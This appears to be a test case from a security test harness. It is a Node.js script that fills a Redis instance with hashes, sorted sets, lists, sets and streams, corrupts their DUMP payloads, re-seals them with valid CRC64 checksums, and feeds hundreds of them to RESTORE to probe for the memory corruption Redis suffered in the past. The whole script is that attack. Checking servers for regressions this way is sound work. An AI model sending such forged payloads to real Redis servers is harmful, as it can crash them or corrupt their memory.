// exploit: has its Redis restore hundreds of values whose bytes were changed and whose sums are right, the way that its memory was broken in the past
// part: no
// outcome: finished
// wall: 10000
// says: restored
// job: {"services":["redis"]}
const { createClient, RESP_TYPES } = require('redis')

const TABLE = Array.from({ length: 256 }, (_, index) => {
  let crc = BigInt(index)
  for (let bit = 0; bit < 8; bit += 1) crc = crc & 1n ? (crc >> 1n) ^ 0x95ac9329ac4bc9b5n : crc >> 1n
  return crc
})
const sumOf = (bytes) => bytes.reduce((crc, byte) => TABLE[Number((crc ^ BigInt(byte)) & 0xffn)] ^ (crc >> 8n), 0n)
const sealed = (payload) => {
  const sum = Buffer.alloc(8)
  sum.writeBigUInt64LE(sumOf(payload))
  return Buffer.concat([payload, sum])
}

async function attack() {
  const open = () => createClient({ socket: { path: process.env.REDIS_SOCKET, reconnectStrategy: false } }).withTypeMapping({ [RESP_TYPES.BLOB_STRING]: Buffer }).on('error', () => {}).connect()
  const client = await open()
  const run = (...words) => client.sendCommand(words).catch((error) => error)
  for (let index = 0; index < 40; index += 1) {
    await run('HSET', 'hash', `f${index}`, 'v'.repeat(index))
    await run('ZADD', 'sorted', String(index * 1.5), `m${index}`)
    await run('RPUSH', 'list', 'v'.repeat(index))
    await run('SADD', 'set', String(index))
    await run('XADD', 'stream', '*', 'a', String(index))
  }
  await run('XGROUP', 'CREATE', 'stream', 'group', '0')
  await run('XREADGROUP', 'GROUP', 'group', 'me', 'STREAMS', 'stream', '>')
  let [taken, refused, index] = [0, 0, 0]
  for (const key of ['hash', 'sorted', 'list', 'set', 'stream']) {
    const dumped = await run('DUMP', key)
    if (!Buffer.isBuffer(dumped)) continue
    const payload = dumped.subarray(0, -8)
    const same = await run('RESTORE', `same${key}`, '0', sealed(payload))
    if (same instanceof Error) console.log('the sum is wrong', same.message)
    for (let round = 0; round < 80; round += 1) {
      const changed = Buffer.from(payload)
      for (let spot = 0; spot < 1 + (round % 4); spot += 1) changed[(round * 7919 + spot * 104_729) % (changed.length - 2)] = (round * 31 + spot * 17) & 0xff
      index += 1
      const answer = await run('RESTORE', `changed${index}`, '0', sealed(changed), 'REPLACE')
      if (answer instanceof Error) refused += 1
      else {
        taken += 1
        for (const words of [['HGETALL'], ['ZRANGE', '0', '-1'], ['LRANGE', '0', '-1'], ['SMEMBERS'], ['XRANGE', '-', '+'], ['DEL']]) await run(words[0], `changed${index}`, ...words.slice(1))
      }
    }
  }
  console.log('restored', taken + refused)
  process.exit()
}
attack()
